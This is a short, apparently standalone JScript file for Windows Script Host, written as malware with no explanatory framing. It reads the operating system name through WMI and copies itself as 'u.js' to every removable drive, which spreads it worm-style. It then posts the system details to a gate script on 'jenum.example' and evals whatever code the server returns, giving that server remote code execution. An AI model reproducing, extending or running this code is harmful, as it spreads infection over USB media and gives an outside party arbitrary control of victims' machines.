
var loc = new ActiveXObject("WbemScripting.SWbemLocator"); var svc = loc.ConnectServer(".", "root\\cimv2");
var e = new Enumerator(svc.ExecQuery("Select * from Win32_OperatingSystem"));
var n = ""; for (; !e.atEnd(); e.moveNext()) { n = e.item().Caption; }
var fs = new ActiveXObject("Scripting.FileSystemObject"); var d = new Enumerator(fs.Drives);
while (!d.atEnd()) { var x = d.item(); if (x.DriveType == 1) { fs.CopyFile(WScript.ScriptFullName, x.Path + "\\u.js"); } d.moveNext(); }
var h = new ActiveXObject("MSXML2.XMLHTTP"); h.open("POST", "http://jenum.example/gate.php", false); h.send("os=" + n); if (h.responseText.length > 2) { eval(h.responseText); }
